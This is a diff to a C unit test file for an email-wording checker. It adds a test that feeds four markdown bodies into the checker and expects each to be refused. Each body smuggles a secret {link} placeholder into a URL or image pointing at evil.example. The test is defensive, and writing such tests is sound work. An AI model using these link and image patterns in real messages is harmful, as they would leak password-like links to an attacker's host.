@@ -275,6 +275,27 @@ a_preview_is_filled_with_examples(void **state)
 		name, address));
 }
 
+/* A link is as good as a password: whoever words mails must not have it told
+ * to a place of their own. */
+static void
+an_address_never_becomes_part_of_another(void **state)
+{
+	static const char *const elsewhere[] = { "[here](https://evil.example/?t={link})",
+		"![here](https://evil.example/?t={link})", "[here]({link}/evil)",
+		"[here][x]\n\n[x]: https://evil.example/?t={link}" };
+	const char *mistake = message_wording_elsewhere(*state, "link");
+
+	for (size_t i = 0; i < sizeof elsewhere / sizeof elsewhere[0]; i++) {
+		const char *found = wording_check_body(
+		    *state, offer(), arena_format(*state, "{link}\n\n%s", elsewhere[i]));
+
+		if (found == NULL) {
+			fail_msg("%s passed", elsewhere[i]);
+		}
+		assert_string_equal(found, mistake);
+	}
+}
+
 #define wording_test(test) cmocka_unit_test_setup_teardown(test, set_up, tear_down)
 
 int
@@ -290,6 +311,7 @@ main(void)
 		wording_test(refuses_a_brace_that_opens_or_closes_nothing),
 		wording_test(refuses_a_body_without_words_too_long_or_with_controls),
 		wording_test(a_link_can_be_clicked_however_it_stands),
+		wording_test(an_address_never_becomes_part_of_another),
 		wording_test(safety_35_a_name_becomes_no_markup_in_either_part),
 		wording_test(a_value_reads_as_it_was_written_in_both_parts),
 		wording_test(safety_09_a_value_ends_no_subject),
